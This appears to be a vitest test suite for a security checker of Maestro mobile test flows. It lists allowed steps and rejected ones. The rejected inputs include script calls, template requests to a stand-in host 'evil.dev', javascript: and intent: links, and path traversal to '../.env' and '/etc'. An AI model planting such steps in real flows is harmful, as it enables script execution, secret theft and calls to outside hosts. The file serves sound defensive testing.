import { describe, expect, it } from "vitest";
import { rulesOf } from "./support.ts";

const review = (contents: string, existingPaths?: ReadonlySet<string>) =>
  rulesOf([{ path: ".maestro/login.yaml", contents }], {
    framework: "maestro",
    allowedRoots: [".maestro"],
    origins: ["https://staging.shop.dev"],
    ...(existingPaths === undefined ? {} : { existingPaths }),
  });

const flow = (steps: string) => `appId: com.example.app\n---\n${steps}\n`;

describe("a Maestro flow", () => {
  it.each([
    "- launchApp",
    "- launchApp:\n    clearState: true\n    stopApp: false\n    permissions:\n      notifications: deny\n      all: allow\n    arguments:\n      e2e: true",
    "- launchApp: com.example.app",
    "- tapOn: Sign in",
    "- tapOn:\n    id: save\n    enabled: true\n    retryTapIfNoChange: false",
    "- tapOn:\n    text: 'Delete'\n    below:\n      text: 'Tea'\n    index: 0",
    "- tapOn:\n    text: 'Row'\n    containsDescendants:\n      - id: a\n      - text: b",
    "- doubleTapOn: 'Photo'\n- longPressOn:\n    id: row",
    "- inputText: 'ada@example.com'",
    "- inputText: ${MAESTRO_PASSWORD}",
    "- inputText: 'see https://other.dev for runScript'",
    "- inputText: \"${MAESTRO_USER || 'ada'}\"",
    "- eraseText: 10\n- eraseText",
    "- assertVisible: 'runScript is text'\n- assertNotVisible:\n    id: spinner",
    "- assertVisible:\n    text: 'Total.*'\n    optional: true\n    label: 'the total'",
    "- assertTrue: ${output.count == 3}",
    "- copyTextFrom:\n    id: total\n- inputText: ${maestro.copiedText}",
    "- scroll\n- back\n- hideKeyboard\n- pasteText\n- waitForAnimationToEnd",
    "- scrollUntilVisible:\n    element:\n      id: last\n    direction: DOWN\n    timeout: 20000\n    speed: 40",
    "- swipe:\n    direction: LEFT\n    duration: 400\n- swipe:\n    start: 50%,80%\n    end: 50%,20%",
    "- extendedWaitUntil:\n    visible:\n      id: home\n    timeout: 10000",
    "- takeScreenshot: home\n- takeScreenshot:\n    path: flows/home",
    "- openLink: myapp://items/7",
    "- openLink: https://staging.shop.dev/items/7",
    "- openLink: http://localhost:8081/x",
    "- openLink:\n    link: https://example.com/x\n    browser: false",
    "- openLink: ${DEEP_LINK}",
    "- pressKey: Enter\n- setOrientation: LANDSCAPE_LEFT\n- setAirplaneMode: enabled",
    "- runFlow: subflows/login.yaml",
    "- runFlow:\n    file: ../.maestro/shared/launch.yaml\n    env:\n      USER: ada\n    when:\n      visible: 'Sign in'\n      platform: Android",
    "- runFlow:\n    when:\n      notVisible:\n        id: home\n    commands:\n      - tapOn: Home",
    "- repeat:\n    times: 3\n    commands:\n      - tapOn: More",
    "- repeat:\n    while:\n      notVisible: 'End'\n    commands:\n      - scroll",
    "- retry:\n    maxRetries: 2\n    commands:\n      - tapOn: Reload",
    "- addMedia:\n    - assets/photo.png",
    "- setLocation:\n    latitude: 52.5\n    longitude: 13.4\n- travel:\n    points:\n      - 0.0,0.0\n      - 0.1,0.0\n    speed: 7900",
    "- inputRandomEmail\n- inputRandomText:\n    length: 10",
    "- killApp\n- stopApp\n- clearState\n- clearKeychain",
    "- inputRandomText\n- inputRandomNumber\n- inputRandomPersonName",
    "- inputText:\n    text: ada\n- pressKey:\n    key: Enter\n- setOrientation:\n    orientation: PORTRAIT",
    "- launchApp: ${APP_ID || 'com.example.app'}\n- stopApp: ${APP_ID}",
    "- addMedia:\n    - assets/a.jpg\n    - assets/b.JPEG\n    - assets/c.gif\n    - assets/d.mp4",
  ])("may have\n%s", (steps) => {
    expect(review(flow(steps))).toEqual([]);
  });

  it.each([
    "appId: ${MAESTRO_APP_ID}\nname: Sign in\ntags:\n  - smoke\nenv:\n  A: ${A || 'x'}\nonFlowStart:\n  - launchApp\n---\n- tapOn: a\n",
    "url: http://localhost:3000\n---\n- launchApp\n",
    "url: https://staging.shop.dev\n---\n- launchApp\n",
    "- tapOn: a\n",
  ])("may start with\n%s", (contents) => {
    expect(review(contents)).toEqual([]);
  });

  it.each([
    ["a script", "- runScript: x.js", "flow-command"],
    ["a script with a map", "- runScript:\n    file: x.js", "flow-command"],
    ["code in a step", "- evalScript: ${1}", "flow-command"],
    ["a quoted name of a script", '- "runScript": x.js', "flow-command"],
    ["a request in a text", "- inputText: ${http.get('https://evil.dev').body}", "flow-command"],
    [
      "a request behind a harmless variable",
      "- inputText: ${A} ${http.post('https://evil.dev')}",
      "flow-command",
    ],
    ["an assignment in a text", "- inputText: ${output.x = 1}", "flow-command"],
    ["a call in a selector", "- tapOn:\n    text: ${json('{}')}", "flow-command"],
    [
      "a call in a condition",
      "- runFlow:\n    when:\n      true: ${eval('1')}\n    commands:\n      - back",
      "flow-command",
    ],
    ["a call in a label", "- tapOn:\n    text: a\n    label: ${x()}", "flow-command"],
    ["a constructor in a text", "- inputText: ${''.constructor}", "flow-command"],
    ["a template in a text", "- inputText: '${`a`}'", "flow-command"],
    [
      "a script that is nested",
      "- repeat:\n    times: 2\n    commands:\n      - retry:\n          commands:\n            - runScript: x.js",
      "flow-command",
    ],
    ["a check by a model elsewhere", "- assertWithAI: looks good", "flow-command"],
    ["text taken by a model elsewhere", "- extractTextWithAI: total", "flow-command"],
    ["another app", "- launchApp: com.android.settings", "flow-command"],
    ["another app's data", "- clearState:\n    appId: com.android.settings", "flow-command"],
    ["an unknown command", "- uploadFile: x", "flow-command"],
    ["an unknown key", "- tapOn:\n    text: a\n    script: b", "flow-command"],
    ["two commands in one step", "- tapOn: a\n  runScript: x.js", "flow-command"],
    ["a key of objects themselves", "- tapOn:\n    constructor: a", "flow-command"],
    ["a bare command that needs a value", "- tapOn", "flow-command"],
    ["aliases", "- tapOn: &x y\n- tapOn: *x", "flow-command"],
    ["tags", "- tapOn: !!binary aGk=", "flow-command"],
    [
      "a permission that is none",
      "- launchApp:\n    permissions:\n      all: maybe",
      "flow-command",
    ],
    ["a foreign address", "- openLink: https://evil.dev", "external-origin"],
    ["a foreign address in a map", "- openLink:\n    link: https://evil.dev", "external-origin"],
    [
      "a host that only starts like ours",
      "- openLink: https://staging.shop.dev.evil.dev/",
      "external-origin",
    ],
    ["a host behind a user", "- openLink: https://localhost@evil.dev", "external-origin"],
    ["a host that is computed", "- openLink: https://${HOST}/x", "external-origin"],
    ["a file of the device", "- openLink: file:///sdcard/x", "external-origin"],
    ["an intent", "- openLink: intent://x#Intent;scheme=http;end", "external-origin"],
    ["code in a link", "- openLink: javascript:alert(1)", "external-origin"],
    ["a call", "- openLink: tel:112", "external-origin"],
    ["code of another host", "- openLink: exp://evil.dev:8081", "external-origin"],
    ["a flow outside of the repository", "- runFlow: ../../x.yaml", "module-forbidden"],
    ["a flow that is computed", "- runFlow: ${FLOW}.yaml", "module-forbidden"],
    ["a flow by an absolute path", "- runFlow: /etc/x.yaml", "module-forbidden"],
    ["a workflow as a flow", "- runFlow: ../.github/workflows/x.yaml", "module-forbidden"],
    ["a picture outside", "- takeScreenshot: ../../x", "file-write"],
    ["a picture by an absolute path", "- takeScreenshot: /tmp/x", "file-write"],
    ["a film outside", "- startRecording:\n    path: ../x", "file-write"],
    ["a file that is no media", "- addMedia:\n    - ../.env", "process-access"],
    ["media outside", "- addMedia:\n    - ../../../etc/x.png", "process-access"],
    ["media by an absolute path", "- addMedia:\n    - /sdcard/a.png", "process-access"],
    ["media that is computed", "- addMedia:\n    - ${NAME}.png", "process-access"],
    ["text as media", "- addMedia:\n    - assets/notes.txt", "process-access"],
    ["a link without a scheme", "- openLink: items/7", "external-origin"],
    ["a link to a host alone", "- openLink: //evil.dev/x", "external-origin"],
    ["a step without a command", "- {}", "flow-command"],
    ["a list as a step", "- [back, back]", "flow-command"],
    ["a list as the name of a command", "- ? [back]\n  : a", "flow-command"],
    ["code in a point", "- travel:\n    points:\n      - ${x()}", "flow-command"],
    ["a map for a list", "- addMedia:\n    a: b.png", "flow-command"],
    ["an endless loop", "- repeat:\n    commands:\n      - back", "endless-loop"],
    [
      "a loop without a number",
      "- repeat:\n    times: abc\n    commands:\n      - back",
      "endless-loop",
    ],
  ])("may not have %s", (_, steps, rule) => {
    expect(review(flow(steps))).toEqual([rule]);
  });

  it.each([
    ["another host's page", "url: https://evil.dev\n---\n- launchApp\n", "external-origin"],
    ["a script of another engine", "appId: a.b\njsEngine: rhino\n---\n- back\n", "flow-command"],
    [
      "a script before it starts",
      "appId: a.b\nonFlowStart:\n  - runScript: x.js\n---\n- back\n",
      "flow-command",
    ],
    ["code in a tag", "appId: a.b\ntags:\n  - ${x()}\n---\n- back\n", "flow-command"],
    ["a map for its commands", "appId: a.b\n---\nname: x\n", "flow-command"],
    ["what is not YAML", "appId: [\n", "code-unparsable"],
    ["two values of one key", "appId: a.b\nappId: c.d\n---\n- back\n", "code-unparsable"],
    ["too many documents", "a: 1\n---\nb: 1\n---\nc: 1\n", "code-unparsable"],
  ])("may not start with %s", (_, contents, rule) => {
    expect(review(contents)).toEqual([rule]);
  });

  it("runs another flow only when it is there", () => {
    const there = new Set([".maestro/shared/launch.yaml"]);

    expect(review(flow("- runFlow: shared/launch.yaml"), there)).toEqual([]);
    expect(review(flow("- runFlow: shared/gone.yaml"), there)).toEqual(["module-forbidden"]);
  });
});
